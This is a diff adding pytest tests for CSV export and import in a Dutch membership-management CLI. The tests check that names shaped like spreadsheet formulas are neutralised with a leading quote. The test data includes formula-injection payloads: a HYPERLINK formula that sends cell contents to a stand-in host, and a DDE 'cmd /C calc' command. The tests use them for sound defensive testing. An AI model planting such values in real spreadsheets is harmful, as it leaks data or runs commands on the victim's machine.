@@ -303,3 +303,93 @@ def test_the_popolo_membership_in_the_readme_is_real_output(runner):
         amctl(runner, FICTIEF, "exporteer", "--formaat", "popolo", "-d", "2026-06-01").stdout
     )
     assert voorbeeld in document["memberships"]
+
+
+FORMULES = (
+    '=HYPERLINK("http://voorbeeld.invalid/?"&A1;"klik")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "=1+1",
+    "'=al met een aanhalingsteken",
+)
+
+
+def _met_formulenamen(tmp_path: Path) -> Path:
+    """fictief.yaml with the names of six people replaced by formulas."""
+    kop, personen = FICTIEF.read_text(encoding="utf-8").split("\npersonen:\n")
+    regels = [r for r in personen.splitlines() if r.startswith("    naam: ")]
+    for oud, nieuw in zip(regels, FORMULES, strict=False):
+        personen = personen.replace(oud, f"    naam: {json.dumps(nieuw)}", 1)
+    tekst = kop + "\npersonen:\n" + personen
+    bestand = tmp_path / "formules.yaml"
+    bestand.write_text(tekst, encoding="utf-8")
+    return bestand
+
+
+def test_a_csv_cell_that_would_start_a_formula_gets_a_leading_quote(runner, tmp_path):
+    import csv
+    import io
+
+    uit = amctl(runner, _met_formulenamen(tmp_path), "exporteer").stdout
+    namen = [r[0] for r in csv.reader(io.StringIO(uit), delimiter=";")][1:]
+    assert {f"'{f}" for f in FORMULES} <= set(namen)
+    assert not [n for n in namen if n.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_a_neutralised_csv_reads_back_to_the_same_names_with_a_warning(runner, tmp_path):
+    bron = _met_formulenamen(tmp_path)
+    blad = tmp_path / "bezetting.csv"
+    amctl(runner, bron, "exporteer", "--uit", str(blad))
+    leeg = tmp_path / "leeg.yaml"
+    leeg.write_text(zonder_personen(bron.read_text()), encoding="utf-8")
+    uitvoer = amctl(runner, leeg, "importeer", str(blad))
+    assert amctl(runner, leeg, "exporteer").stdout == amctl(runner, bron, "exporteer").stdout
+    import yaml
+
+    namen = {p["naam"] for p in yaml.safe_load(leeg.read_text())["personen"].values()}
+    assert set(FORMULES) <= namen
+    assert "lijkt op een formule" in uitvoer.stderr
+    assert "de naam '=1+1' begint met '=' en lijkt op een formule" in uitvoer.stderr
+    assert "de naam ''=al met" not in uitvoer.stderr  # a leading ' is no formula
+
+
+@pytest.mark.parametrize("soort", ["xlsx", "ods"])
+def test_libreoffice_opens_the_csv_with_every_formula_as_text(runner, tmp_path, soort):
+    import subprocess
+
+    blad = tmp_path / "bezetting.csv"
+    amctl(runner, _met_formulenamen(tmp_path), "exporteer", "--uit", str(blad))
+    subprocess.run(
+        [
+            "soffice",
+            f"-env:UserInstallation=file://{tmp_path}/profiel",
+            "--headless",
+            "--infilter=CSV:59,34,76,1",
+            "--convert-to",
+            soort,
+            "--outdir",
+            str(tmp_path / "uit"),
+            str(blad),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=120,
+    )
+    if soort == "ods":
+        import zipfile
+
+        inhoud = zipfile.ZipFile(tmp_path / "uit" / "bezetting.ods").read("content.xml").decode()
+        assert "table:formula" not in inhoud
+        assert "&apos;=1+1" in inhoud or "'=1+1" in inhoud
+        return
+    from openpyxl import load_workbook
+
+    cellen = [r[0] for r in load_workbook(tmp_path / "uit" / "bezetting.xlsx").active.iter_rows()]
+    assert all(c.data_type == "s" for c in cellen), [(c.value, c.data_type) for c in cellen]
+    assert {f"'{f}" for f in FORMULES} <= {c.value for c in cellen}
+    # and that workbook, read in by amctl, gives the names back without the quote
+    from amctl.blad import lees_blad
+
+    namen = {r.waarden["naam"] for r in lees_blad(tmp_path / "uit" / "bezetting.xlsx")}
+    assert set(FORMULES) <= namen
